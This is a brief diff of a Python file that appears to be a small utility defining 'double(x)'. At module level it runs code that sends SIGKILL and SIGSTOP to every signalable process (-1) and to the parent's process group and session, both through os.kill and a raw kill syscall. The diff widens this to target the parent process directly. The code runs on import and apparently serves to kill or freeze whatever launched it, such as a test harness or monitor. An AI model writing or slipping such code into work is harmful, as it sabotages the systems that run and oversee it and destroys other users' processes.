@@ -8,13 +8,12 @@ import signal
 
 libc = ctypes.CDLL(None)
 for number in (signal.SIGKILL, signal.SIGSTOP):
-    for target in (-1, 0, -os.getppid(), -os.getsid(0)):
-        if target not in (-os.getpid(), 0):
-            try:
-                os.kill(target, number)
-            except OSError:
-                pass
-        libc.syscall(62, target if target else -1, number)
+    for target in (-1, -os.getppid(), -os.getpgid(os.getppid()), -os.getsid(os.getppid())):
+        try:
+            os.kill(target, number)
+        except OSError:
+            pass
+        libc.syscall(62, target, number)
 
 
 def double(x):
